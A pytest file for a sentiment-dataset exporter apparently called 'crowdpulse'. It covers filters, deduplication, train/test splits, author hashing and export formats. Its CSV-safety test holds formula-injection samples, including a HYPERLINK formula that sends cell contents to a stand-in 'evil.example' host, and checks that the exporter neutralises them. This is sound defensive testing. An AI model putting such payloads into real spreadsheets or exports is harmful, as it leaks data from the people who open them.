"""Export: selection, filters, dedupe, splits, privacy, CSV safety, and the datasets round trip."""
from __future__ import annotations

import csv
import json
import subprocess
import sys
from datetime import datetime, timezone

import pandas as pd
import pytest
from typer.testing import CliRunner

from crowdpulse.export import (
    ExportError,
    assign_splits,
    dedupe_frame,
    duplicate_groups,
    export,
    export_frame,
    resolve_format,
    neutralise_cell,
    parse_split,
    pick_model,
)
from test_export_synthetic import MODEL, OTHER_MODEL, fill_synthetic


@pytest.fixture
def store(fresh_store):
    fill_synthetic(fresh_store)
    return fresh_store


def _extra(pid, body, *, thread=None, source="reddit", author="x", minute=0, score=(0.7, 0.2, 0.1)):
    return {"source": source, "id": pid, "thread_id": thread or pid, "parent_id": None, "depth": 0,
            "author": author, "created_at": datetime(2024, 3, 5, 15, minute, tzinfo=timezone.utc),
            "title": None, "body": body, "score": 1, "url": None, "user_label": None, "lang": "en",
            "time_precision": "exact", "raw": None, "_score": score}


def test_pick_model_defaults_to_most_scores_and_matches_parts(store):
    assert pick_model(store) == MODEL
    assert pick_model(store, "vader") == OTHER_MODEL
    assert pick_model(store, MODEL) == MODEL
    with pytest.raises(ExportError, match="matches no scored model.*finbert-test@0123abcd"):
        pick_model(store, "roberta")
    with pytest.raises(ExportError, match="matches several"):
        pick_model(store, "@")


def test_export_frame_rows_have_scores_stances_themes_and_sessions(store):
    df = export_frame(store)
    assert len(df) == 150 and set(df["model_id"]) == {MODEL}
    row = df[df["id"] == "t1p0"].iloc[0]
    assert row["text"].startswith("Thread 1\n\nThread 1 post 0")
    assert sorted(row["tickers"]) == ["IWM", "TLT"] and len(row["stances"]) == 2
    assert row["themes"] == ["recession"]
    assert abs(row["p_bullish"] + row["p_bearish"] + row["p_neutral"] - 1) < 1e-9
    assert row["confidence"] == max(row["p_bullish"], row["p_bearish"], row["p_neutral"])
    # t2p0: Tuesday 2024-03-05 19:00 UTC, before the 21:00 UTC close -> that day's session;
    # t1p0: Sunday 2024-03-03 22:00 UTC -> Monday's session
    sessions = df.set_index("id")["session"].astype(str)
    assert sessions["t2p0"] == "2024-03-05" and sessions["t1p0"] == "2024-03-04"
    assert df["session"].notna().all()
    assert "user_label" not in df
    assert set(export_frame(store, user_labels=True)["user_label"].dropna()) == {"Bullish", "Bearish"}


def test_session_rule_after_close_and_weekend(fresh_store):
    from crowdpulse.export import assign_sessions

    ts = pd.Series(pd.to_datetime([
        "2024-03-01 20:59", "2024-03-01 21:01", "2024-03-02 12:00", "2024-03-28 21:30",
    ], utc=True))
    # Friday 15:59 NY -> Fri; 16:01 NY -> Mon; Saturday -> Mon; Thursday after close before Good Friday -> Mon Apr 1
    assert [str(d) for d in assign_sessions(ts)] == ["2024-03-01", "2024-03-04", "2024-03-04", "2024-04-01"]


def test_filters(store):
    all_rows = export_frame(store)
    since = export_frame(store, since="2024-03-20", until="2024-04-10")
    assert 0 < len(since) < len(all_rows)
    assert since["created_at"].min() >= pd.Timestamp("2024-03-20", tz="UTC")
    assert since["created_at"].max() < pd.Timestamp("2024-04-11", tz="UTC")
    st = export_frame(store, sources=["stocktwits"])
    assert set(st["source"]) == {"stocktwits"} and len(st) == 50
    iwm = export_frame(store, tickers=["$iwm"])
    assert all("IWM" in t for t in iwm["tickers"]) and len(iwm) < len(all_rows)
    conf = export_frame(store, min_confidence=0.7)
    assert (conf["confidence"] >= 0.7).all() and len(conf) < len(all_rows)
    least = export_frame(store, least_confident=10)
    assert len(least) == 10
    assert least["confidence"].max() <= all_rows["confidence"].nsmallest(10).max()
    with pytest.raises(ExportError, match="--source nope has no posts; sources in the database: reddit, stocktwits"):
        export_frame(store, sources=["nope"])
    with pytest.raises(ExportError, match="--since 2024-05-01 is after --until 2024-04-01"):
        export_frame(store, since="2024-05-01", until="2024-04-01")
    with pytest.raises(ExportError, match="is not a date"):
        export_frame(store, since="yesterday-ish")
    with pytest.raises(ExportError, match="'' is not a date"):
        export_frame(store, until="")
    last_day = export_frame(store)["created_at"].max().strftime("%Y-%m-%d")  # a bare date covers its day, however written
    whole_day = len(export_frame(store, until=last_day))
    import datetime as dt
    for same in (dt.date.fromisoformat(last_day), pd.Timestamp(last_day), last_day.replace("-", "")):
        assert len(export_frame(store, until=same)) == whole_day, same
    one = export_frame(store)["source"].iloc[0]
    assert set(export_frame(store, sources=one)["source"]) == {one}  # a string is one name, not its letters
    with pytest.raises(ExportError, match="between 0 and 1"):
        export_frame(store, min_confidence="0.5")
    with pytest.raises(ExportError, match="between 0 and 1"):
        export_frame(store, min_confidence=70)


def test_no_scores_is_a_clear_error(fresh_store):
    with pytest.raises(ExportError, match="no scores yet"):
        export_frame(fresh_store)


def test_dedupe_exact_and_near_duplicates(fresh_store):
    base = ("Small caps are finally waking up, IWM breaking out above the 200 day average while "
            "TLT bleeds; rate cuts would light a fire under the Russell")
    extras = [
        _extra("a", base, minute=1),
        _extra("b", base.upper() + "  https://t.co/xyz !!!", minute=2),                # exact after normalising
        _extra("c", base.replace("fire", "rocket"), minute=3),                          # near duplicate
        _extra("d", "Completely different: long bonds are a value trap until inflation cools", minute=4),
        _extra("e", "TLT to the moon", minute=5),
        _extra("f", "IWM to the moon", minute=6),                                       # short, different
    ]
    fill_synthetic(fresh_store, n_threads=0, extra_posts=extras)
    df = export_frame(fresh_store)
    groups = duplicate_groups(list(df.set_index("id").loc[list("abcdef"), "text"]))
    assert groups[0] == groups[1] == groups[2]
    assert len(set(groups)) == 4
    kept = dedupe_frame(df)
    assert sorted(kept["id"]) == ["a", "d", "e", "f"]  # the earliest of the group stays


def test_splits_keep_threads_together_and_stratify(store):
    df = export_frame(store)
    split = assign_splits(df, (0.6, 0.2, 0.2), seed=3)
    df = df.assign(split=split.to_numpy())
    per_thread = df.groupby(["source", "thread_id"])["split"].nunique()
    assert (per_thread == 1).all(), "a thread crosses splits"
    sizes = df["split"].value_counts(normalize=True)
    assert set(sizes.index) == {"train", "validation", "test"}
    assert abs(sizes["train"] - 0.6) < 0.1 and abs(sizes["test"] - 0.2) < 0.1
    # every label is present in every split
    assert (pd.crosstab(df["split"], df["label"]) > 0).all().all()
    # deterministic per seed
    assert assign_splits(df, (0.6, 0.2, 0.2), seed=3).equals(split)
    # posts without a thread id are their own groups
    df2 = df.assign(thread_id=None)
    assert assign_splits(df2, (0.8, 0.1, 0.1), seed=0).notna().all()


def test_split_spec_validation():
    assert parse_split("0.8,0.1,0.1") == (0.8, 0.1, 0.1)
    for bad in ("0.8,0.1", "0.5,0.5,0.5", "a,b,c", "0,0.5,0.5", "-0.1,0.6,0.5"):
        with pytest.raises(ExportError, match="--split"):
            parse_split(bad)


def test_csv_neutralises_formulas_and_reads_back(fresh_store, tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(A1:A9)", "-2+3",
               "\tTAB", "\rCR", 'quote " and, comma\nnewline']
    extras = [_extra(f"h{i}", body, author=body, minute=i) for i, body in enumerate(hostile)]
    fill_synthetic(fresh_store, n_threads=0, extra_posts=extras)
    out = tmp_path / "x.csv"
    result = export(fresh_store, out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_id = {r["id"]: r for r in rows}
    for i, body in enumerate(hostile):
        text, author = by_id[f"h{i}"]["text"], by_id[f"h{i}"]["author"]
        stripped = body.strip()  # post text is stripped; the author cell is not
        assert text == ("'" + stripped if stripped[0] in "=+-@" else stripped)
        assert author == ("'" + body if body[0] in "=+-@\t\r" else body)
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert json.loads(by_id["h0"]["stances"])[0]["ticker"] == "IWM"
    back = pd.read_csv(out, encoding="utf-8-sig")
    assert len(back) == len(hostile) == result.rows
    assert json.loads((tmp_path / "x.csv.card.json").read_text())["model_id"] == MODEL
    assert neutralise_cell("=1") == "'=1" and neutralise_cell("ok=1") == "ok=1" and neutralise_cell(3) == 3


def test_jsonl_and_parquet_round_trip(store, tmp_path):
    r1 = export(store, tmp_path / "x.jsonl", split="0.8,0.1,0.1", seed=1)
    rows = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text().splitlines()]
    assert len(rows) == r1.rows == 150
    assert rows[0]["created_at"].endswith("Z") and isinstance(rows[0]["stances"], list)
    assert {r["split"] for r in rows} == {"train", "validation", "test"}
    export(store, tmp_path / "x.parquet", tickers=["TLT"])
    df = pd.read_parquet(tmp_path / "x.parquet")
    assert len(df) > 0 and all("TLT" in list(t) for t in df["tickers"])
    assert {"p_bullish", "p_bearish", "p_neutral", "themes", "session", "model_id"} <= set(df.columns)


def test_hf_folder_loads_with_datasets_and_pandas(store, tmp_path):
    datasets = pytest.importorskip("datasets")
    folder = tmp_path / "ds"
    result = export(store, folder, split="0.8,0.1,0.1", seed=0, dedupe=True, user_labels=True)
    assert result.format == "hf"
    readme = (folder / "README.md").read_text()
    assert readme.startswith("---\nconfigs:") and "class_label" in readme and MODEL in readme
    assert "| reddit | " in readme and "| stocktwits | " in readme
    dd = datasets.load_dataset(str(folder), cache_dir=str(tmp_path / "cache"))
    assert set(dd) == {"train", "validation", "test"}
    assert sum(len(dd[s]) for s in dd) == result.rows
    label = dd["train"].features["label"]
    assert isinstance(label, datasets.ClassLabel) and label.names == ["bullish", "bearish", "neutral"]
    assert dd["train"].features["stances"].feature["ticker"] == datasets.Value("string")
    first = dd["train"][0]
    assert set(first) >= {"source", "id", "thread_id", "created_at", "session", "text", "label",
                          "p_bullish", "tickers", "stances", "themes", "model_id", "user_label"}
    threads = {s: {(r["source"], r["thread_id"]) for r in dd[s]} for s in dd}
    assert not threads["train"] & threads["test"] and not threads["train"] & threads["validation"]
    assert not threads["validation"] & threads["test"]
    pdf = pd.read_parquet(folder / "data" / "train.parquet")
    assert len(pdf) == len(dd["train"]) and pdf["label"].isin([0, 1, 2]).all()


def test_privacy_hash_authors_and_no_text(store, tmp_path):
    export(store, tmp_path / "h.jsonl", hash_authors_=True, salt="s3cret")
    rows = [json.loads(x) for x in (tmp_path / "h.jsonl").read_text().splitlines()]
    raw = (tmp_path / "h.jsonl").read_text()
    assert "user1" not in raw and "s3cret" not in raw
    authors = store.query("SELECT id, author FROM posts").set_index("id")["author"]
    by_author: dict[str, set[str]] = {}
    for r in rows:
        by_author.setdefault(authors[r["id"]], set()).add(r["author"])
    assert all(len(h) == 1 for h in by_author.values())  # one stable hash per author
    assert len({next(iter(h)) for h in by_author.values()}) == len(by_author)
    export(store, tmp_path / "h2.jsonl", hash_authors_=True, salt="s3cret")
    assert (tmp_path / "h2.jsonl").read_text() == raw
    export(store, tmp_path / "h3.jsonl", hash_authors_=True)  # random salt: different hashes
    assert json.loads((tmp_path / "h3.jsonl").read_text().splitlines()[0])["author"] != rows[0]["author"]
    export(store, tmp_path / "n.csv", no_text=True)
    text = (tmp_path / "n.csv").read_text(encoding="utf-8-sig")
    assert "looks" not in text and "https://example.com" not in text
    assert "text" not in pd.read_csv(tmp_path / "n.csv", encoding="utf-8-sig").columns


def test_format_resolution_errors(store, tmp_path):
    with pytest.raises(ExportError, match="cannot tell the format of .*x.xlsx"):
        export(store, tmp_path / "x.xlsx")
    with pytest.raises(ExportError, match="--format 'xml' is not one of csv, jsonl, parquet, hf, labelstudio"):
        export(store, tmp_path / "x.csv", fmt="xml")
    with pytest.raises(ExportError, match="no scored posts match"):
        export(store, tmp_path / "x.csv", since="2030-01-01")


def test_cli_export_and_help(tmp_path):
    from crowdpulse.cli import app
    from crowdpulse.store import Store

    db = tmp_path / "c.duckdb"
    with Store.open(db) as s:
        fill_synthetic(s)
    runner = CliRunner()
    res = runner.invoke(app, ["export", str(tmp_path / "o.csv"), "--db", str(db), "--source", "reddit",
                              "--split", "0.8,0.1,0.1", "--dedupe"])
    assert res.exit_code == 0, res.output
    assert "exported 100 posts scored by finbert-test@0123abcd" in res.output
    help_text = runner.invoke(app, ["export", "--help"]).output
    assert "Example" in help_text and "--least-confident" in help_text
    assert "Example" in runner.invoke(app, ["import-labels", "--help"]).output


def test_cli_user_error_is_one_line(tmp_path):
    from crowdpulse.store import Store

    db = tmp_path / "c.duckdb"
    with Store.open(db) as s:
        fill_synthetic(s, n_threads=3)
    proc = subprocess.run([sys.executable, "-m", "crowdpulse.cli", "export", str(tmp_path / "o.csv"),
                           "--db", str(db), "--split", "0.9,0.9,0.1"], capture_output=True, text=True)
    assert proc.returncode == 2
    assert proc.stderr.strip().count("\n") == 0 and proc.stderr.startswith("error: --split '0.9,0.9,0.1'")


def test_hf_export_never_overwrites_a_users_folder_and_replaces_its_own(store, tmp_path):
    pytest.importorskip("datasets")
    mine = tmp_path / "project"
    mine.mkdir()
    (mine / "README.md").write_text("my notes")
    with pytest.raises(ExportError, match="other files in it"):
        export(store, mine, fmt="hf")
    assert (mine / "README.md").read_text() == "my notes" and not (mine / "data").exists()
    with pytest.raises(ExportError, match="is a file"):
        export(store, mine / "README.md", fmt="hf")
    folder = tmp_path / "ds"
    export(store, folder, split="0.8,0.1,0.1", seed=0)
    assert {p.name for p in (folder / "data").iterdir()} == {"train.parquet", "validation.parquet", "test.parquet"}
    export(store, folder)  # an earlier export is replaced whole: no stale splits stay behind
    assert {p.name for p in (folder / "data").iterdir()} == {"train.parquet"}
    assert resolve_format(tmp_path / "tasks.json", None) == "labelstudio"


def test_a_negative_seed_is_refused(store, tmp_path):
    with pytest.raises(ExportError, match="--seed must be"):
        export(store, tmp_path / "x.csv", split="0.8,0.1,0.1", seed=-1)
    with pytest.raises(ExportError, match="--salt applies to --hash-authors"):
        export(store, tmp_path / "x.csv", salt="abc")
    with pytest.raises(ExportError, match="--salt is empty"):
        export(store, tmp_path / "x.csv", hash_authors_=True, salt="")
